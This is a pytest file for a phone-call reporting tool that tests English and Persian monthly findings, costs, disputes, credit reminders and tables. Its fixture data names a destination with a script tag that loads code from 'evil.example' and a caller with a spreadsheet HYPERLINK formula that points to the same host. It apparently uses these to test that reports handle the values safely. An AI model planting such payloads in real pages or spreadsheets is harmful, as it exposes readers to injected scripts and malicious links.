"""What is concluded from a month that was worked out by hand."""

from __future__ import annotations

from dataclasses import replace
from datetime import date, datetime, timedelta
from decimal import Decimal
from typing import TYPE_CHECKING, Any

import pandas as pd
import pytest

from tests.publish.conftest import ABAN, DEAR, IN, NOW, OFFICE, SARA, SCRIPT, SINCE, YES, made
from trunkline.archive import Archive, Coverage, Segment
from trunkline.errors import ConfigError, DataError
from trunkline.figures import Calls
from trunkline.figures.report import gathered
from trunkline.plots.persian import TEXTS as PLOTS
from trunkline.publish import charts, tables
from trunkline.publish.document import document
from trunkline.publish.findings import actions, findings
from trunkline.publish.languages import LANGUAGES, language
from trunkline.publish.month import Dispute, Gap, Lasting, Month, Unusual, Who, month_of
from trunkline.publish.values import Chart, Kind, Series, Value, amount, change, count, day, number, seconds

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable
    from pathlib import Path

    import trunkline
    from trunkline.publish.values import Finding, Sentence

    type Select = Callable[..., trunkline.Calls]

ENGLISH, PERSIAN = LANGUAGES["en"], LANGUAGES["fa"]
MARKS = str.maketrans("", "", "\u2066\u2068\u2069")


def said(sentence: Sentence, *, code: str = "en", jalali: bool = True) -> str:
    return LANGUAGES[code].say(sentence, jalali=jalali).translate(MARKS)


def lines(found: Iterable[Finding], code: str = "en", *, jalali: bool = True) -> list[str]:
    return [
        " | ".join(said(each, code=code, jalali=jalali) for each in (finding.says, *finding.evidence))
        for finding in found
    ]


@pytest.fixture
def month(calls: Select) -> Month:
    return month_of(gathered(calls(), None, None))


def test_the_conclusions_are_those_of_the_calls(month: Month) -> None:
    # Aban has four Sundays to Thursdays and five Fridays and Saturdays, Mehr five Wednesdays and Thursdays. The mean of
    # the weekdays: (2/4 + 1/4 + 1/4 + 2/4) / 7 = 0.214 calls in Aban, (2/4 + 1/4) / 7 = 0.107 in Mehr, and for the
    # cost (1500 + 500 + 250) / 4 / 7 = 80.357 IRR and 1500 / 4 / 7 = 53.571 IRR.
    days = "equal weekdays, 30 days and 30 days"
    # Wilson's interval of one of three: (1/3 + z²/6 ± z·√(2/27 + z²/36)) / (1 + z²/3), z = 1.95996.
    assert lines(findings(month)) == [
        f"6 calls: 3 incoming, 3 outgoing. | 0.21 a day, +100 % on Mehr 1405 (0.11); {days}",
        f"The calls cost 2,250 IRR. | n = 6 calls | 80.4 IRR a day, +50 % on Mehr 1405 (53.6 IRR); {days}",
        "The most expensive number called was <script src=//evil.example></script>: 1,500 IRR, 66.7 % of the cost. | n = 1 call",
        # Of the four answered calls, three went out: Sunday 1, Monday 1, Tuesday 1, Wednesday 1, so 4/4/7 a day.
        (
            "33.3 % of the incoming calls were answered: 1 of 3. | 95 % interval 6.1 % to 79.2 % | "
            f"0.14 a day, +33 % on Mehr 1405 (0.11); {days}"
        ),
        (
            "2 calls went unanswered; reached later: 1. | half of them within 1 h 0 min | "
            "0.07 a day, none in Mehr 1405; 30 days and 30 days"
        ),
        (
            "33.3 % of the incoming calls were answered within 20 seconds. | of 3 calls of known outcome | "
            "half of the answered ones within 5 s"
        ),
        # 125 seconds in that hour, of four days from the first call to the last: 125 / 3600 / 4.
        (
            "The busiest hour of the day is 12:00\u201313:00; the most at the same time: 1 call, on 1405-08-03 10:00. | "
            "0.0087 calls at a time in that hour, on average | with 1 line, at most 1 % of the calls are lost"
        ),
    ]


def test_what_to_do_names_the_caller_and_the_credit(month: Month) -> None:
    assert lines(actions(month)) == [
        'Call back =HYPERLINK("http://evil.example","x"). | 1 call of 1 number, not reached since',
        "Renew trunk 2100000010 before 10 Azar 1405: its credit of 90,000 IRR expires then. | read on 1405-09-04 14:30",
    ]


def test_persian_has_its_own_words_digits_and_months(month: Month) -> None:
    first, cost, *_ = lines(findings(month), "fa")
    assert first.startswith("۶ تماس: ۳ ورودی، ۳ خروجی. | روزی ۰٫۲۱، +۱۰۰٪ نسبت به مهر ۱۴۰۵ (۰٫۱۱)")
    assert cost.startswith("هزینهٔ تماس‌ها ۲٬۲۵۰ ریال شد.")
    renew = lines(actions(month), "fa")[1]
    assert "۱۰ آذر ۱۴۰۵" in renew
    assert "۹۰٬۰۰۰ ریال" in renew


def test_a_month_of_the_other_calendar_has_its_days(calls: Select) -> None:
    month = month_of(gathered(calls("2026-10"), None, None))
    made = document(month, datetime(2026, 11, 25, 15, 30), masked=True)
    assert said(made.title, jalali=False) == "Phone calls in October 2026"
    assert said(made.title, code="fa", jalali=False) == "تماس‌های تلفنی اکتبر ۲۰۲۶"
    assert [said(each, jalali=False) for each in made.about] == [
        "Accounts: Office",
        "1 October 2026 to 31 October 2026",
        "Local time in Asia/Tehran",
        "Made on 2026-11-25 15:30",
    ]
    assert month.calls == 9


def test_a_month_that_is_not_over_says_so(calls: Select) -> None:
    chosen = calls("1405-08", now=datetime.fromisoformat("2026-10-29T06:00+00:00"))
    month = month_of(gathered(chosen, None, None))
    told = [said(each) for each in document(month, datetime(2026, 10, 29, 9, 30), masked=False).about]
    assert "The month is not over: calls so far, comparisons up to and including 6 Aban 1405" in told
    # 23 to 28 October are six complete days: Friday to Wednesday.
    assert "6 days and 30 days" in lines(findings(month))[0]


def test_on_the_first_day_of_a_month_no_day_is_over(calls: Select) -> None:
    chosen = calls("1405-08", now=datetime.fromisoformat("2026-10-23T18:00+00:00"))
    month = month_of(gathered(chosen, None, None))
    told = document(month, datetime(2026, 10, 23, 21, 30), masked=False).about
    assert "The month is not over: calls so far" in [said(each) for each in told]
    assert "ماه هنوز تمام نشده است: تماس‌ها تا اکنون" in [said(each, code="fa") for each in told]


def test_persian_has_the_words_of_the_plots_for_how_calls_end() -> None:
    assert PERSIAN.words["missed"] == PLOTS["missed"]
    assert PERSIAN.words["no_answer"] == PLOTS["no answer"]


def test_without_a_month_before_nothing_is_compared(calls: Select) -> None:
    month = month_of(gathered(calls("1405-06"), None, None))
    assert month.previous is None
    assert "no complete days of the month before to compare with" in lines(findings(month))[0]


def test_two_currencies_stay_apart(calls: Select) -> None:
    month = month_of(gathered(calls(accounts=()), None, None))
    assert [(cost.currency, cost.cost) for cost in month.costs] == [("EUR", Decimal("0.25")), ("IRR", Decimal(2250))]
    told = [line for line in lines(findings(month)) if "cost" in line.split("|")[0]]
    assert [line.split(" | ")[0] for line in told if line.startswith("The calls")] == [
        "The calls cost 0.25 EUR.",
        "The calls cost 2,250 IRR.",
    ]
    assert [table.anchor for table in tables.tables(month) if table.key == "cost"] == ["cost-eur", "cost-irr"]
    assert [chart.unit for chart in charts.charts(month)] == ["", "EUR", "IRR", ""]


def test_the_parts_of_the_cost_add_up(month: Month) -> None:
    [cost] = month.costs
    for part in (cost.directions, cost.trunks):
        assert sum(line.cost or 0 for line in part) == 2250
    assert [(line.cost, line.calls) for line in cost.destinations] == [(1500, 1), (500, 1), (250, 1)]
    assert sum(cost.days.values()) == 2250
    assert [line.cost for line in cost.contacts] == [1500, 250]


def test_disputes_are_what_the_card_does_not_have(calls: Select, tmp_path: Path) -> None:
    # 600 a minute: 1,200 for 120 s (1,500 were charged), 300 for 30 s (500), and 250 for 25 s as charged.
    card = tmp_path / "card.csv"
    card.write_text("prefix,rate\n98,600\n")
    month = month_of(gathered(calls(), card, None))
    assert [(each.amount, each.charged, each.expected) for each in month.costs[0].disputes] == [
        (300, 1500, 1200),
        (200, 500, 300),
    ]
    # The number that the dearer call went to has a name, the other has none.
    assert [each.who.name for each in month.costs[0].disputes] == [SCRIPT, None]
    assert "Dispute 2 calls, charged 500 IRR more than the rate card has." in lines(actions(month))
    assert "disputes-irr" in {table.anchor for table in tables.tables(month)}


def test_a_dispute_about_an_incoming_call_names_the_caller(calls: Select, url: str, tmp_path: Path) -> None:
    card = tmp_path / "card.toml"
    card.write_text('currency = "IRR"\ndirections = ["incoming"]\n[[rate]]\nprefix = "98"\nrate = 1\n')
    with Archive.open(url) as archive:
        archive.store([made(60, "2026-10-29 10:00", IN, YES, (SARA, "Sara"), talk=60, price="7")])
    [cost] = month_of(gathered(calls(), card, None)).costs
    [dispute] = cost.disputes
    assert (dispute.amount, dispute.who.name) == (Decimal(6), "Sara")
    assert dispute.who.label.startswith("+98912")


def test_a_destination_keeps_its_name_after_a_call_without_one(calls: Select) -> None:
    found = calls()
    frame = found.frame.assign(destination_name=found.frame["destination_name"].astype(object))
    dear = frame.index[frame["destination"] == DEAR]
    later = frame.loc[dear].assign(call_id="x", destination_name=None)
    [cost] = month_of(gathered(replace(found, frame=pd.concat([frame, later])), None, None)).costs
    assert {line.who.name for line in cost.destinations if line.who and line.who.name} == {SCRIPT, "Sara"}


def test_a_card_that_is_not_there_is_one_line(calls: Select) -> None:
    with pytest.raises(ConfigError, match="can't read the rate card nix.csv"):
        gathered(calls(), "nix.csv", None)


def test_what_was_not_read_is_something_to_do(calls: Select, url: str) -> None:
    gap = datetime.fromisoformat("2026-11-01T00:00+00:00")
    known = (Segment(SINCE, gap), Segment(gap + timedelta(hours=3), NOW))
    with Archive.open(url) as archive:
        archive.store(ABAN, coverage=Coverage(OFFICE, "", known), reopen=True)
    month = month_of(gathered(calls(), None, None))
    # 00:00 UTC is 03:30 in Tehran.
    assert [(each.low, each.high) for each in month.gaps] == [
        (datetime(2026, 11, 1, 3, 30), datetime(2026, 11, 1, 6, 30))
    ]
    assert lines(actions(month))[-1].startswith("Run trunkline sync to read 1 span of the month")
    # The day that was not read whole is left out of the comparison.
    assert "29 days and 30 days" in lines(findings(month))[0]


def test_names_are_only_for_who_may_see_them(calls: Select) -> None:
    month = month_of(replace(gathered(calls(), None, None), mask=True))
    assert month.people == ()
    assert month.costs[0].contacts == ()
    assert {caller.who.name for caller in month.callers} == {None}
    assert all("•" in caller.who.label for caller in month.callers)


def test_calls_without_an_archive_are_reported_as_they_are(calls: Select) -> None:
    loose = Calls(calls().frame, period=calls().period, now=NOW)
    material = gathered(loose, None, None)
    assert material.credits == ()
    assert material.previous is None
    month = month_of(material)
    assert month.calls == 6
    assert month.accounts == ()


def test_a_choice_of_calls_says_so(calls: Select) -> None:
    month = month_of(gathered(calls().where(direction="outgoing"), None, None))
    assert month.calls == 3
    told = [said(each) for each in document(month, datetime(2026, 11, 25), masked=True).about]
    assert "Only calls chosen by direction" in told
    assert not any("incoming calls" in line for line in lines(findings(month)))


@pytest.mark.parametrize("period", ["1405", "1405-08-03", "1405-07..1405-08", "", "last 28 days", "1405-08-02.."])
def test_a_report_is_about_one_month(calls: Select, period: str) -> None:
    with pytest.raises(ConfigError, match="a report is about one month"):
        gathered(calls(period), None, None)


def test_a_month_to_come_has_no_report(calls: Select) -> None:
    with pytest.raises(ConfigError, match="1405-10 has not begun yet"):
        gathered(calls("1405-10"), None, None)


NEXT = datetime(2026, 11, 25, 15, 30)
CREDIT = Lasting("Office", "2100000010", Decimal(500), "IRR", NEXT, None, None, None, None, NEXT)


@pytest.mark.parametrize(
    ("credit", "line"),
    [
        (replace(CREDIT), None),
        (replace(CREDIT, runs_out=NEXT + timedelta(days=40)), None),
        (
            replace(
                CREDIT,
                runs_out=datetime(2026, 12, 1),
                earliest=datetime(2026, 11, 29),
                latest=datetime(2026, 12, 5),
                expires=datetime(2027, 1, 1),
            ),
            (
                "Top up trunk 2100000010 before 10 Azar 1405: its credit of 500 IRR will be used up then. | "
                "80 % interval 8 Azar 1405 to 14 Azar 1405 | read on 1405-09-04 15:30"
            ),
        ),
        (
            replace(CREDIT, runs_out=datetime(2026, 12, 1), earliest=datetime(2026, 11, 29)),
            (
                "Top up trunk 2100000010 before 10 Azar 1405: its credit of 500 IRR will be used up then. | "
                "not before 8 Azar 1405, with a probability of 90 % | read on 1405-09-04 15:30"
            ),
        ),
        (
            replace(CREDIT, runs_out=datetime(2026, 11, 20)),
            (
                "Top up trunk 2100000010: its credit of 500 IRR should have been used up by 29 Aban 1405. | "
                "read on 1405-09-04 15:30"
            ),
        ),
        (
            replace(CREDIT, runs_out=datetime(2026, 12, 1), expires=datetime(2026, 11, 20)),
            "Renew trunk 2100000010: its credit of 500 IRR expired on 29 Aban 1405. | read on 1405-09-04 15:30",
        ),
    ],
)
def test_a_credit_is_something_to_do_before_it_ends(month: Month, credit: Lasting, line: str | None) -> None:
    found = actions(replace(month, callers=(), credits=(credit,)))
    assert lines(found) == [line or "Nothing needs to be done."]


def test_an_unusual_day_is_looked_at(month: Month) -> None:
    odd = Unusual(date(2026, 10, 26), "Office", "IRR", Decimal(1500), 0.002, 84)
    [line] = lines(actions(replace(month, callers=(), credits=(), unusual=(odd,))))
    assert line == (
        "Look at 4 Aban 1405: Office spent 1,500 IRR, which happens on one day in 500. | judged by the 84 days before"
    )


@pytest.mark.parametrize("probability", [0.0000999, 1e-24, 0.0])
def test_a_day_is_said_to_be_no_rarer_than_its_history_tells(month: Month, probability: float) -> None:
    odd = Unusual(date(2026, 10, 26), "Office", "IRR", Decimal(10**12), probability, 84)
    [line] = lines(actions(replace(month, callers=(), credits=(), unusual=(odd,))))
    assert "which happens on less than one day in 10,000." in line


def test_more_callers_than_a_sentence_holds_are_counted(month: Month) -> None:
    [caller] = month.callers
    many = tuple(replace(caller, who=Who(f"Caller {n}", f"0{n}")) for n in range(14))
    crowded = replace(month, callers=many, credits=())
    [line] = lines(actions(crowded))
    assert line.startswith("Call back Caller 0, Caller 1,")
    assert "Caller 7 and 6 others. | 14 calls of 14 numbers" in line
    [table] = [table for table in tables.tables(crowded) if table.key == "callers"]
    assert len(table.rows) == tables.SHOWN == 10
    assert said(table.notes[-1]) == "And 4 more."


def test_without_prices_or_missed_calls_it_says_that(month: Month) -> None:
    counts = dict(month.counts) | {"missed": 0}
    quiet = replace(month, costs=(), counts=counts, missed=0, callers=(), level=None, busy={}, peak=None, lines=None)
    told = lines(findings(quiet))
    assert told[1] == "The cost is unknown: 6 calls without a price."
    assert told[-1] == "No incoming call was missed."
    assert "traffic" not in {table.key for table in tables.tables(quiet)}


def test_one_call_is_not_many(month: Month) -> None:
    [cost] = month.costs
    [one] = [dict(line) for line in month.directions if line["direction"] == "incoming"]
    odd = Dispute(None, Who(None, "021"), None, Decimal(10), Decimal(0), Decimal(10), "duplicate")
    gap = Gap("Office", datetime(2026, 10, 25), datetime(2026, 10, 26))
    alone = replace(
        month,
        counts=dict(month.counts) | {"calls": 1},
        directions=(one | {"calls": 1},),
        compared={},
        costs=(),
        waits=dict(month.waits) | {"unwaited": 1},
        callers=(),
        credits=(),
        gaps=(gap,),
    )
    told = lines(findings(alone))
    assert told[0] == "1 call: 1 incoming. | no complete days of the month before to compare with"
    assert told[1] == "The cost is unknown: 1 call without a price."
    assert "1 call answered after an unknown time" in "\n".join(told)
    assert lines(actions(replace(alone, costs=(replace(cost, disputes=(odd,)),)))) == [
        "Dispute 1 call, charged 10 IRR more than the rate card has.",
        "Run trunkline sync to read 1 span of the month: calls may be missing.",
    ]


def test_calls_of_unknown_direction_are_among_the_parts(month: Month) -> None:
    [incoming, _] = [dict(line) for line in month.directions]
    parts = (incoming | {"calls": 3}, incoming | {"direction": None, "calls": 2})
    mixed = replace(month, counts=dict(month.counts) | {"calls": 5}, directions=parts, compared={})
    assert lines(findings(mixed))[0].startswith("5 calls: 3 incoming, 2 of unknown direction. |")
    assert lines(findings(replace(mixed, directions=parts[1:])), "fa")[0].startswith("۵ تماس: ۲ با جهت نامعلوم. |")


def test_little_traffic_is_not_none_and_unknown_traffic_is_not_0(calls: Select, url: str, month: Month) -> None:
    small = {name: dict(line) | {"erlang": 0.00083} for name, line in month.busy.items()}
    [traffic] = [table for table in tables.tables(replace(month, busy=small)) if table.key == "traffic"]
    assert ENGLISH.show(traffic.rows[0][2], jalali=True) == "0.00083 erlang"
    assert "0.00083 calls at a time in that hour" in "\n".join(lines(findings(replace(month, busy=small))))
    # A call of Farvardin of unknown length: nothing is known of the lines.
    with Archive.open(url) as archive:
        lost = made(90, "2026-03-25 10:00", IN, YES, (SARA, "Sara"))
        archive.store([replace(lost, ended_at=None, wait=None, talk=None)])
    unknown = month_of(gathered(calls("1405-01"), None, None))
    assert unknown.peak is None
    assert "traffic" not in {table.key for table in tables.tables(unknown)}


def test_what_is_left_out_is_told(month: Month) -> None:
    [cost] = month.costs
    lacking = replace(
        month,
        costs=(replace(cost, unpriced=2),),
        left_out={"cost": (6, 2)},
        twice=1,
        duplicates=2,
        waits=dict(month.waits) | {"p50_s": None, "unwaited": 2, "impossible": 1},
        # The service level leaves out two more, which rang out for an unknown time.
        level=dict(month.level or {}) | {"unwaited": 5},
        directions=tuple(dict(line) | {"unknown": 1} for line in month.directions),
        hours={13: {"missed": 2, "calls": 5, "answered": 3}},
    )
    told = "\n".join(lines(findings(lacking)))
    assert "n = 4 calls" in told
    assert "without 2 calls of unknown price" in told
    assert "without 1 call of unknown outcome" in told
    assert "3 calls answered after an unknown time" in told
    assert "Most were missed from 13:00\u201314:00: 2 of 5 calls." in told
    [quality] = [table for table in tables.tables(lacking) if table.key == "quality"]
    assert [[ENGLISH.show(value, jalali=True) for value in row] for row in quality.rows] == [
        ["Cost", "6", "2", "unknown price"],
        # Six calls, and one that two accounts recorded: seven records. Two calls are there twice, and counted.
        ["All figures", "7", "1", "records of another account's calls"],
        ["All figures", "2", "0", "calls that are there more than once; they are counted"],
    ]


def test_disputes_without_some_amounts_have_dashes(month: Month) -> None:
    [cost] = month.costs
    odd = Dispute(None, Who(None, "021"), None, Decimal(10), None, Decimal(10), "duplicate")
    [table] = [
        each
        for each in tables.tables(replace(month, costs=(replace(cost, disputes=(odd,)),)))
        if each.key == "disputes"
    ]
    shown = [ENGLISH.cell(value, "IRR", jalali=True) for value in table.rows[0]]
    assert shown == ["\u2013", "\u2013", "021", "\u2013", "10", "\u2013", "10", "charged twice"]


@pytest.mark.parametrize(
    ("value", "english", "persian"),
    [
        (count(1234567), "1,234,567", "۱٬۲۳۴٬۵۶۷"),
        (count(1, "days"), "1 day", "۱ روز"),
        (count(2, "days"), "2 days", "۲ روز"),
        (amount(Decimal("-1234.5"), "EUR", 2), "\u22121,234.50 EUR", "\u2212۱٬۲۳۴٫۵۰ یورو"),
        (amount(Decimal(5), "VND", 0), "5 VND", "۵ VND"),
        (change(-0.123), "\u221212 %", "\u2212۱۲٪"),
        (change(0.0), "0 %", "۰٪"),
        (seconds(59), "0:59", "۰:۵۹"),
        (seconds(3661), "1:01:01", "۱:۰۱:۰۱"),
        (seconds(None), "\u2013", "\u2013"),
        (number(0.5, 2), "0.50", "۰٫۵۰"),
        (Value(Kind.NUMBER, 0.5, "erlang", 2), "0.50 erlang", "۰٫۵۰ ارلانگ"),
        (day(date(2026, 10, 23)), "1 Aban 1405", "۱ آبان ۱۴۰۵"),
        (Value(Kind.HOUR, 23), "23:00\u201300:00", "۲۳:۰۰\u2013۰۰:۰۰"),
    ],
)
def test_values_are_written_as_each_language_does(value: Value, english: str, persian: str) -> None:
    assert ENGLISH.show(value, jalali=True) == english
    assert PERSIAN.show(value, jalali=True) == persian


def test_lengths_have_words_in_a_sentence() -> None:
    assert [ENGLISH.length(each) for each in (8, 75, 3600 * 13 + 27 * 60)] == ["8 s", "1 min 15 s", "13 h 27 min"]
    assert PERSIAN.length(75) == "۱ دقیقه و ۱۵ ثانیه"


def test_every_language_has_the_same_texts_and_the_same_parts_in_them() -> None:
    from string import Formatter

    def parts(text: str) -> set[Any]:
        return {name for _, name, _, _ in Formatter().parse(text) if name}

    for other in LANGUAGES.values():
        assert other.texts.keys() == ENGLISH.texts.keys()
        assert other.words.keys() == ENGLISH.words.keys()
        assert other.units.keys() == ENGLISH.units.keys()
        assert {key: parts(text) for key, text in other.texts.items()} == {
            key: parts(text) for key, text in ENGLISH.texts.items()
        }


@pytest.mark.parametrize("name", LANGUAGES)
def test_titles_of_tables_are_different_and_fit_on_the_sheets_of_a_workbook(name: str) -> None:
    language = LANGUAGES[name]
    # A name of a sheet has at most 31 characters; a table with amounts may be there for each currency.
    codes = {*ENGLISH.currencies, *language.currencies, "IRR", "IRT", "VND", "EUR"}
    titles = [language.words["summary"], language.text("heading.charts")]
    for key in language.texts:
        if key.startswith("table."):
            titles += {language.text(key, unit=language.currency(code)) for code in codes}
    assert [title for title in titles if len(title) > 31] == []
    assert len({title.lower() for title in titles}) == len(titles)


def test_an_unknown_language_is_one_line() -> None:
    with pytest.raises(ConfigError, match="reports are not written in 'xx'; choose one of en, fa"):
        language("xx")


def test_an_empty_chart_says_so() -> None:
    empty = Chart("days", (day(date(2026, 10, 23)),), (Series("answered", "good", (0.0,)),))
    assert ENGLISH.alt(empty, "Calls by day", jalali=True) == "Calls by day. All bars are empty."
    full = Chart("costs", (day(date(2026, 10, 23)),), (Series("cost", "plain", (1234.5,)),), "EUR")
    assert ENGLISH.alt(full, "Cost", jalali=True) == "Cost. 1 bars; the highest is 1,234.50 at 1 Aban 1405."


def test_a_month_without_calls_has_no_report(calls: Select, tmp_path: Path) -> None:
    with pytest.raises(DataError, match="there are no calls in 1405-09, so there is nothing to report"):
        calls("1405-09").report(tmp_path / "azar.html")
    assert list(tmp_path.glob("*.html")) == []
